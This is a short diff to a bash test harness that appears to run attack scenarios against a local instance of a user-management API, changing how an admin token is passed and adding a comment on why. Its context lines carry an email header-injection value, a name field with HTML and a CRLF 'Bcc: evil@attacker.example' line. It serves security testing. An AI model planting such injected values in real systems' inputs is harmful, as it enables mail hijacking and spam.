@@ -62,6 +62,8 @@ attack() {
   "$bin" user add --email "mallory@example.org" --name $'<b>Mal</b>\r\nBcc: evil@attacker.example' >/dev/null
   users+=("mallory@example.org")
   local admin_token
+  # `--admin-token=VALUE`, not two words: a token may start with `-`, which argparse would take
+  # for an option.
   admin_token="$("$bin" token issue --email ann@example.org --scope admin)"
 
   "$bin" serve >"$work/$run/server.log" 2>&1 &
@@ -73,7 +75,7 @@ attack() {
 
   status=0
   python3 scripts/attack.py --scenario "$scenario" --url "http://127.0.0.1:$port/api/users" --pid "$server" \
-    --log "$work/$run/server.log" --mail-dir "$work/$run/mail" --admin-token "$admin_token" \
+    --log "$work/$run/server.log" --mail-dir "$work/$run/mail" --admin-token="$admin_token" \
     --users "$(IFS=,; echo "${users[*]}")" || status=$?
   kill "$server" 2>/dev/null || true
   wait "$server" 2>/dev/null || true
